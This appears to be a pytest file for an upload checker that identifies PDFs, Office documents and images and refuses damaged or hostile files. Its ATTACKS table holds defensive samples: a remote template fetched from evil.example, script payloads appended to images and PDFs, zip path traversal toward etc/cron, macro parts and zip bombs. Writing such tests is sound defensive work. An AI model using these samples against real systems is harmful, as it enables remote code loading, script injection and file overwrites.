"""What a file is: whole documents and pictures are known, and nothing that is two things at once."""

from __future__ import annotations

import contextlib
import io
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import docx
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from library.core.errors import Invalid
from library.works import wording
from library.works.content import format_of
from library.works.drawing import MOST_PAGES
from library.works.formats import FileFormat, WordsRead
from library.works.reading.reader import Busy, FileReader
from library.works.wording import TEXT_MAX
from tests.library.works.files import GIF, JPEG, PNG, SVG, WEBP, WORD, package, pdf, png


def real_docx() -> bytes:
    out = io.BytesIO()
    docx.Document().save(out)
    return out.getvalue()


def real_xlsx() -> bytes:
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    return out.getvalue()


WHOLE = {
    "pdf": (pdf(), FileFormat.PDF),
    "docx": (real_docx(), FileFormat.DOCX),
    "xlsx": (real_xlsx(), FileFormat.XLSX),
    "pptx": (
        package(WORD.replace("wordprocessingml.document", "presentationml.presentation")),
        FileFormat.PPTX,
    ),
    "png": (PNG, FileFormat.PNG),
    "jpeg": (JPEG, FileFormat.JPEG),
    "jpeg of a phone, with a second picture": (JPEG + JPEG + b"\0" * 9, FileFormat.JPEG),
    "gif": (GIF, FileFormat.GIF),
    "webp": (WEBP, FileFormat.WEBP),
    "a link in a document": (
        package(
            **{
                "word___rels__document.xml.rels": '<Relationship Type="http://x/relationships/hyperlink" '
                'Target="https://www.gov.cn" TargetMode="External"/>'
            }
        ),
        FileFormat.DOCX,
    ),
}


@pytest.mark.parametrize("name", WHOLE)
def test_a_whole_file_is_known_by_its_content(name: str) -> None:
    data, expected = WHOLE[name]
    assert format_of(data) is expected


@pytest.mark.parametrize("name", [name for name in WHOLE if "phone" not in name])
def test_half_a_file_is_refused_wherever_it_is_cut(name: str) -> None:
    data, _ = WHOLE[name]
    for cut in {1, 5, len(data) // 3, len(data) // 2, len(data) - 30, len(data) - 8}:
        if 0 < cut < len(data):
            with pytest.raises(Invalid, match=r"material_(damaged|type|two_things)"):
                format_of(data[:cut])


TEMPLATE = (
    '<Relationship Type="http://x/relationships/attachedTemplate" Target="http://evil.example/x.dotm" '
    "TargetMode='External'/>"
)
ATTACKS = {
    "empty": (b"", "empty"),
    "a program": (b"MZ\x90\0" + bytes(200), "type"),
    "a page": (b"<!doctype html><script>alert(1)</script>", "type"),
    "a script": (b"#!/bin/sh\nid\n", "type"),
    "a drawing with a script": (SVG, "drawing"),
    "a drawing without its head": (SVG[21:], "drawing"),
    "an old document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
    "a zip that is no document": (package("text/plain"), "type"),
    "a picture and a page behind it": (PNG + b"<script>alert(1)</script>", "two_things"),
    "a picture and a package behind it": (JPEG + package(), "two_things"),
    "a gif that is a script": (GIF + b"*/=alert(1)", "two_things"),
    "a webp and more": (WEBP + b"<script>", "two_things"),
    "a pdf and a page behind it": (pdf() + b"<script>alert(1)</script>", "two_things"),
    "a pdf and a package behind it": (pdf() + package(), "two_things"),
    "a pdf that ends in a package": (pdf() + package() + b"\n%%EOF\n", "two_things"),
    "a package behind something": (b"PK\x03\x04junk" + package(), "two_things"),
    "a package with a word behind it": (package() + b"x", "two_things"),
    "a picture that holds a pdf": (PNG[:33] + PNG[33:].replace(b"IDAT", b"%PDF-1.4IDAT"), "damaged"),
    "a picture of a billion points": (png(100_000, 100_000), "pixels"),
    "a picture without points": (png(0, 2), "damaged"),
    "a picture with a wrong sum": (PNG.replace(b"IHDR", b"IHDR", 1)[:-20] + bytes(20), "damaged"),
    "macros by their part": (package(word__vbaProject="x"), "macros"),
    "macros by their type": (package("application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    "macros of Excel 4": (package(xl__macrosheets__sheet1="x"), "macros"),
    "a program packed into it": (
        package(word__embeddings__oleObject1="..\x01Ole10Native".encode("utf-16-le")),
        "macros",
    ),
    "a template from elsewhere": (package(**{"word___rels__settings.xml.rels": TEMPLATE}), "fetches"),
    "a name that leads out": (package(**{"..__..__etc__cron": "x"}), "damaged"),
    "a name of Windows that leads out": (package(**{"..\\..\\x": "x"}), "damaged"),
    "a name with a line break": (package(**{"word__a\nb": "x"}), "damaged"),
    "two parts of one name": (package(**{"WORD__document.xml": "x"}), "damaged"),
    "a bomb": (package(word__media__image1=bytes(40 * 2**20)), "bomb"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_file_that_means_harm_is_refused_with_its_reason(name: str) -> None:
    data, code = ATTACKS[name]
    with pytest.raises(Invalid) as refused:
        format_of(data)
    assert refused.value.code == f"material_{code}"


def test_a_bomb_that_lies_about_its_size_is_stopped_while_it_unpacks() -> None:
    data = bytearray(package(word__media__image1=bytes(20 * 2**20)))
    size = (20 * 2**20).to_bytes(4, "little")
    assert data.count(size) >= 1
    with pytest.raises(Invalid, match=r"material_(bomb|damaged)"):
        format_of(bytes(data.replace(size, (100).to_bytes(4, "little"))))


@pytest.mark.slow
@given(st.sampled_from([data for data, _ in WHOLE.values()]), st.data())
def test_whatever_is_broken_in_a_file_is_told_as_ours(data: bytes, draw: st.DataObject) -> None:
    broken = bytearray(data)
    for at in draw.draw(st.lists(st.integers(0, len(data) - 1), min_size=1, max_size=4)):
        broken[at] = draw.draw(st.integers(0, 255))
    with contextlib.suppress(Invalid):  # any other error is ours
        format_of(bytes(broken))


@pytest.fixture(scope="module")
def reader() -> Iterator[FileReader]:
    made = FileReader(processor_s=5)
    yield made
    made.close()


def put(folder: Path, data: bytes) -> Path:
    file = folder / "file"
    file.write_bytes(data)
    return file


@pytest.mark.slow
def test_a_child_looks_into_files_and_draws_their_pages(reader: FileReader, tmp_path: Path) -> None:
    looked = reader.look(put(tmp_path, pdf(pages=MOST_PAGES + 2)), person_id="a")
    assert (looked.format, looked.pages, len(looked.drawn)) == (FileFormat.PDF, MOST_PAGES + 2, MOST_PAGES)
    assert all(format_of(page) is FileFormat.PNG for page in looked.drawn)
    assert looked.drawn[0][16:20] == (1000).to_bytes(4, "big"), "the width of a page"
    assert reader.look(put(tmp_path, JPEG), person_id="a").format is FileFormat.JPEG
    for data, code in ((pdf(0), "damaged"), (b"%PDF-1.7\n%%EOF", "damaged"), (SVG, "drawing")):
        with pytest.raises(Invalid, match=f"material_{code}"):
            reader.look(put(tmp_path, data), person_id="a")


@pytest.mark.slow
def test_a_pdf_of_huge_pages_is_drawn_small_or_not_at_all(reader: FileReader, tmp_path: Path) -> None:
    for width, height in ((1_000_000, 3), (3, 900_000), (14_400, 14_400)):
        looked = reader.look(put(tmp_path, pdf(1, width, height)), person_id="a")
        for page in looked.drawn:
            w, h = int.from_bytes(page[16:20], "big"), int.from_bytes(page[20:24], "big")
            assert w * h <= 2_600_000


def test_a_file_that_kills_its_reader_is_refused_and_the_next_one_is_read(tmp_path: Path) -> None:
    quick = FileReader(reading_s=0.001)
    try:
        with pytest.raises(Invalid, match="material_too_costly"):
            quick.look(put(tmp_path, pdf()), person_id="a")
    finally:
        quick.close()


def test_of_one_person_one_file_at_a_time_is_read(reader: FileReader, tmp_path: Path) -> None:
    with reader._children.place("a"), pytest.raises(Busy):
        reader.look(put(tmp_path, PNG), person_id="a")


@pytest.mark.slow
def test_what_is_written_in_a_file_is_read_and_bounded(tmp_path: Path) -> None:
    written = docx.Document()
    written.add_paragraph("余村关停矿山 & 水泥厂")
    written.add_table(1, 1).cell(0, 0).text = "表里的字"
    book = openpyxl.Workbook()
    book.active.append(["学时账", 12])  # type: ignore[union-attr]
    files: list[tuple[str, FileFormat, str]] = []
    for name, found, document in (("a.docx", FileFormat.DOCX, written), ("b.xlsx", FileFormat.XLSX, book)):
        document.save(str(tmp_path / name))
        files.append((name, found, "余村关停矿山 & 水泥厂\n表里的字" if name == "a.docx" else "学时账"))
    slide = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    said = "<p:sld><a:p><a:r><a:t>第{}页</a:t></a:r></a:p></p:sld>"
    shown = package(slide, **{f"ppt/slides/slide{n}.xml": said.format(n) for n in (10, 2)})
    (tmp_path / "c.pptx").write_bytes(shown)
    (tmp_path / "d.pdf").write_bytes(pdf(pages=2))
    (tmp_path / "e.docx").write_bytes(
        package(**{"word/document.xml": "<w:p><w:t>" + "字" * 300_000 + "</w:t></w:p>"})
    )
    (tmp_path / "f.png").write_bytes(PNG)
    files += [
        ("c.pptx", FileFormat.PPTX, "第2页\n第10页"),
        ("d.pdf", FileFormat.PDF, "page 1\npage 2"),
        ("e.docx", FileFormat.DOCX, "字" * TEXT_MAX),
        ("f.png", FileFormat.PNG, ""),
    ]
    cut = {"e.docx"}
    with closing(FileReader()) as reader:
        for name, found, words in files:
            looked = reader.look(tmp_path / name, person_id=None)
            assert (looked.format, looked.words) == (found, words), name
            assert looked.read is (WordsRead.BEGINNING if name in cut else WordsRead.WHOLE), name


def test_of_pages_that_take_too_long_the_first_are_read_and_that_is_told(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(wording, "READING_S", -1.0)
    read = wording.words_of(pdf(pages=3), FileFormat.PDF)
    assert (read.text, read.whole) == ("page 1", False)
    assert wording.words_of(pdf(pages=1), FileFormat.PDF).whole


def test_what_cannot_be_read_within_the_bounds_is_told_and_keeps_no_file_out(tmp_path: Path) -> None:
    heavy = put(tmp_path, package(**{"word/document.xml": "<w:p><w:t>字</w:t></w:p>"}))
    with closing(FileReader(reading_s=0.001)) as reader:
        words, read = reader.words(heavy, FileFormat.DOCX)
    assert (words, read) == ("", WordsRead.NOTHING)
